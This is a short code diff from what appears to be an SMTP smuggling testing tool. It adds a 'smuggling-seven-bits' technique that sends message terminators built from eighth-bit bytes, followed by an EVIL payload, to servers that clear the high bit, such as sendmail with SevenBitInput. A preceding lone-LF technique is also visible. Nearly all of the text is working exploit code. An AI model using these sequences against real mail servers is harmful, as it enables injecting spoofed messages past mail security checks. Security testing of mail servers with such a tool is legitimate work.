@@ -77,3 +77,17 @@ def data_lone_lf(attack: Attack) -> None:
     connection.put(b"DATA\n.\r\n" + EVIL)
     connection.read()
     connection.put(EVIL)
+
+
+@technique(
+    "smuggling-seven-bits",
+    "ends of data and a pipe with eighth bits, to a server that clears them (sendmail's SevenBitInput)",
+    options=("--set", "data.seven_bits=true"),
+    server=LOOSE,
+)
+def smuggling_seven_bits(attack: Attack) -> None:
+    attack.forbidden += [b"[\x80-\xff]"]
+    for end in (b"\r\n\xae\r\n", b"\x8d\x8a\xae\x8d\x8a", b"\r\n.\x8d\x8a"):
+        connection = attack.text()
+        connection.put(b"Subject: one\r\n\r\nhello" + end + EVIL)
+        connection.put(b"more text\r\n.\r\n")
